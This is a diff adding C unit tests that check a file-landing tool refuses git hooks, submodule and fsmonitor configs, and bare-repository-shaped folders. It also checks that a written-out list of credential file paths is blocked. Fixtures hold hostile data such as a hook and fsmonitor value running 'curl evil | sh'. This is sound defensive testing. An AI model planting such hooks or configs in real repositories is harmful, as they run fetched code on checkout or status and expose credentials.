@@ -856,6 +856,171 @@ static void test_landing__changed_here_meanwhile__far_copy_kept_beside(void **st
     tb_free(&t);
 }
 
+/* Git's own files never come back, at any depth: a submodule's hooks run at the next
+ * checkout here, and its config can name an fsmonitor that runs at every status. */
+static void test_landing__submodule_hook_under_git_modules__refused(void **state)
+{
+    struct tb t;
+    tb_init(&t);
+    tb_file(&t, ".git/modules/m/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
+    tb_file(&t, "src/a.c", "int a;\n");
+    tb_end(&t);
+    cleanup_landrun struct landrun r;
+    landrun(&r, &S, &t, ASK(".git/modules/m/hooks/post-checkout", "src/a.c"), 0, CP_LAND_MAX_BYTES);
+    assert_int_equal(r.rc, 0);
+    assert_landed("src/a.c", "int a;\n"); /* the run itself is not refused */
+    assert_false(exists_nofollow(S.work, ".git"));
+    assert_refused(&r, ".git/modules/m/hooks/post-checkout (under a .git folder)");
+    tb_free(&t);
+}
+
+static void test_landing__submodule_config_fsmonitor__refused(void **state)
+{
+    struct tb t;
+    tb_init(&t);
+    tb_file(&t, ".git/modules/m/config", "[core]\n\tfsmonitor = curl evil | sh\n");
+    tb_file(&t, "lib/m/.git/config", "[core]\n\tfsmonitor = evil\n");
+    tb_file(&t, ".GIT/Modules/m/info/attributes", "* filter=evil\n");
+    tb_file(&t, "ok.txt", "ok");
+    tb_end(&t);
+    cleanup_landrun struct landrun r;
+    landrun(&r, &S, &t,
+            ASK(".git/modules/m/config", "lib/m/.git/config", ".GIT/Modules/m/info/attributes",
+                "ok.txt"),
+            0, CP_LAND_MAX_BYTES);
+    assert_landed("ok.txt", "ok");
+    assert_int_equal(r.rep.landed, 1);
+    assert_refused(&r, ".git/modules/m/config (under a .git folder)");
+    assert_refused(&r, ".GIT/Modules/m/info/attributes (under a .git folder)");
+    assert_false(exists_nofollow(S.work, ".git"));
+    assert_false(exists_nofollow(S.work, "lib"));
+    tb_free(&t);
+}
+
+/* A folder git would take for a bare repository, with a config that runs a command. */
+static void test_landing__bare_repo_shaped_folder__refused(void **state)
+{
+    struct tb t;
+    tb_init(&t);
+    tb_file(&t, "tools/evil/HEAD", "ref: refs/heads/main\n");
+    tb_file(&t, "tools/evil/config", "[core]\n\tbare = true\n\tfsmonitor = curl evil | sh\n");
+    tb_file(&t, "tools/evil/objects/info/packs", "\n");
+    tb_file(&t, "tools/evil/refs/heads/main", "0000000000000000000000000000000000000000\n");
+    tb_file(&t, "tools/readme.md", "tools");
+    tb_end(&t);
+    cleanup_landrun struct landrun r;
+    landrun(&r, &S, &t,
+            ASK("tools/evil/HEAD", "tools/evil/config", "tools/evil/objects/info/packs",
+                "tools/evil/refs/heads/main", "tools/readme.md"),
+            0, CP_LAND_MAX_BYTES);
+    assert_landed("tools/readme.md", "tools");
+    assert_false(exists_nofollow(S.work, "tools/evil/HEAD"));
+    assert_false(exists_nofollow(S.work, "tools/evil/objects"));
+    assert_false(exists_nofollow(S.work, "tools/evil/refs"));
+    assert_refused(&r, "tools/evil/HEAD (it would make a folder git takes for a repository)");
+    tb_free(&t);
+}
+
+/* The same shape spread over two pulls: the second one would complete it. */
+static void test_landing__bare_repo_shape_over_two_pulls__second_refused(void **state)
+{
+    put_file(S.work, "x/HEAD", "ref: refs/heads/main\n"); /* landed by an earlier pull */
+    struct tb t;
+    tb_init(&t);
+    tb_file(&t, "x/refs/heads/main", "0\n");
+    tb_file(&t, "y/commondir", "../../.git\n");
+    tb_file(&t, "y/HEAD", "ref: refs/heads/main\n");
+    tb_end(&t);
+    cleanup_landrun struct landrun r;
+    landrun(&r, &S, &t, ASK("x/refs/heads/main", "y/commondir", "y/HEAD"), 0, CP_LAND_MAX_BYTES);
+    assert_int_equal(r.rep.landed, 0);
+    assert_false(exists_nofollow(S.work, "x/refs"));
+    assert_false(exists_nofollow(S.work, "y"));
+    assert_refused(&r, "x/refs/heads/main (it would make a folder git takes for a repository)");
+    assert_refused(&r, "y/commondir (it would make a folder git takes for a repository)");
+    tb_free(&t);
+}
+
+/* The work folder itself made into a bare repository: HEAD and objects at the top. */
+static void test_landing__work_folder_made_repo_shaped__refused(void **state)
+{
+    struct tb t;
+    tb_init(&t);
+    tb_file(&t, "HEAD", "ref: refs/heads/main\n");
+    tb_file(&t, "objects/ab/cdef", "x");
+    tb_end(&t);
+    cleanup_landrun struct landrun r;
+    landrun(&r, &S, &t, ASK("HEAD", "objects/ab/cdef"), 0, CP_LAND_MAX_BYTES);
+    assert_int_equal(r.rep.landed, 0);
+    assert_int_equal(count_tree(S.work), 0);
+    assert_refused(&r, "HEAD (it would make a folder git takes for a repository)");
+    tb_free(&t);
+}
+
+/* Only the shape is refused: a file named HEAD, or a refs folder, alone still lands. */
+static void test_landing__head_or_refs_alone__lands(void **state)
+{
+    struct tb t;
+    tb_init(&t);
+    tb_file(&t, "a/HEAD", "notes\n");
+    tb_file(&t, "docs/refs/api.md", "api\n");
+    tb_end(&t);
+    cleanup_landrun struct landrun r;
+    landrun(&r, &S, &t, ASK("a/HEAD", "docs/refs/api.md"), 0, CP_LAND_MAX_BYTES);
+    assert_landed("a/HEAD", "notes\n");
+    assert_landed("docs/refs/api.md", "api\n");
+    tb_free(&t);
+}
+
+/* DESIGN.md's one list, written out (not read from the table), each two folders deep: none
+ * of them lands, nor anything under the folders it names. */
+static void test_landing__one_list__every_pattern_refused_at_depth(void **state)
+{
+    static const char *const names[] = {
+        ".env",
+        ".env.local",
+        ".netrc",
+        ".pypirc",
+        ".git-credentials",
+        "server.pem",
+        "tls.key",
+        "id_rsa",
+        "id_ed25519.pub",
+        "id_ecdsa",
+        ".ssh/config",
+        ".aws/credentials",
+        ".gnupg/pubring.kbx",
+        ".conch/config.json",
+        ".cargo/credentials.toml",
+        ".cargo/credentials",
+        ".gem/credentials",
+        ".config/gh/hosts.yml",
+        ".config/hub",
+        ".config/glab-cli/config.yml",
+        ".config/git/credentials",
+        ".gcm/store",
+        ".docker/config.json",
+        ".terraformrc",
+        ".terraform.d/credentials.tfrc.json",
+        ".config/configstore/update-notifier.json",
+        ".yarnrc",
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
+        cleanup_free char *deep = xasprintf("a/b/%s", names[i]);
+        const char *why = cp_rules_check_back(NULL, deep);
+        if (why == NULL || strcmp(why, "protected place") != 0)
+            fail_msg("%s would land (%s)", deep, why ? why : "allowed");
+        if (cp_rules_check_back(NULL, names[i]) == NULL)
+            fail_msg("%s would land at the top", names[i]);
+    }
+    /* Neighbours that are not keys still land. */
+    assert_null(cp_rules_check_back(NULL, "a/.config/other.json"));
+    assert_null(cp_rules_check_back(NULL, "a/credentials"));
+    assert_null(cp_rules_check_back(NULL, ".cargo/config.toml"));
+    assert_null(cp_rules_check_back(NULL, ".docker/daemon.json"));
+    assert_null(cp_rules_check_back(NULL, ".yarnrc.yml"));
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -922,6 +1087,19 @@ int main(void)
         cmocka_unit_test_setup_teardown(test_landing__second_archive_after_the_end__not_landed,
                                         setup, teardown),
         cmocka_unit_test_setup_teardown(test_landing__changed_here_meanwhile__far_copy_kept_beside,
+                                        setup, teardown),
+        cmocka_unit_test_setup_teardown(test_landing__submodule_hook_under_git_modules__refused,
+                                        setup, teardown),
+        cmocka_unit_test_setup_teardown(test_landing__submodule_config_fsmonitor__refused, setup,
+                                        teardown),
+        cmocka_unit_test_setup_teardown(test_landing__bare_repo_shaped_folder__refused, setup,
+                                        teardown),
+        cmocka_unit_test_setup_teardown(
+            test_landing__bare_repo_shape_over_two_pulls__second_refused, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_landing__work_folder_made_repo_shaped__refused, setup,
+                                        teardown),
+        cmocka_unit_test_setup_teardown(test_landing__head_or_refs_alone__lands, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_landing__one_list__every_pattern_refused_at_depth,
                                         setup, teardown),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
